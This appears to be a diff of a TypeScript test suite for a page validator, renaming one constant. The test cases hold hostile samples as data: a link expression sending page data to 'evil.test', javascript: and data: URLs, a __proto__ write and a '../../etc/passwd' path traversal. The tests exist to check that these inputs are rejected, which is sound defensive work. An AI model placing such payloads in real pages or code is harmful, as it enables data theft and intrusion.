@@ -19,7 +19,7 @@ const load = (...actions: Record<string, unknown>[]) => ({ op: 'set', path: ['lo
 const set = (name: string, value: string, was: string) => ({ op: 'set', path: [name], value, was });
 const link = (href: unknown) => put({ id: 'x.a', widget: 'Link', props: { label: text('A'), href } });
 const roles = { id: '01J00000000000000000000001', roles: ['WORKSPACE_SUPER_ADMIN'] };
-const told = "'https://evil.test/?' + string(data.positions.total)";
+const withData = "'https://evil.test/?' + string(data.positions.total)";
 
 test('P28 a link in the folder of pages leads nowhere, and an id or an address of the product is not taken', async () => {
   const own = mkdtempSync(join(inject('runFolder'), 'pages-'));
@@ -50,7 +50,7 @@ describeOnEachDatabase('changes to a page of the deployment', (open) => {
     ['it is another document', 'OVERLAY_NAME_RESERVED', [set('id', 'session.login', key)]],
     ['a link runs code', 'PAGE_URL_UNSAFE', [link('javascript:alert(1)')]],
     ['a link is data', 'PAGE_URL_UNSAFE', [link('data:text/html,x')]],
-    ['data go into a foreign address', 'CHANGE_ADDRESS', [link({ $: told })]],
+    ['data go into a foreign address', 'CHANGE_ADDRESS', [link({ $: withData })]],
     ['a widget is a script', 'PAGE_WIDGET_UNKNOWN', [put({ id: 'x.a', widget: 'script', props: { src: 'a.js' } })]],
     ['a prototype is written', 'OVERLAY_NAME_RESERVED', [{ op: 'set', path: ['__proto__', 'x'], value: 1 }]],
     ['a path leads out of the folder', 'PAGE_VALUE', [put({ id: 'x.a', fragment: '../../etc/passwd' })]],
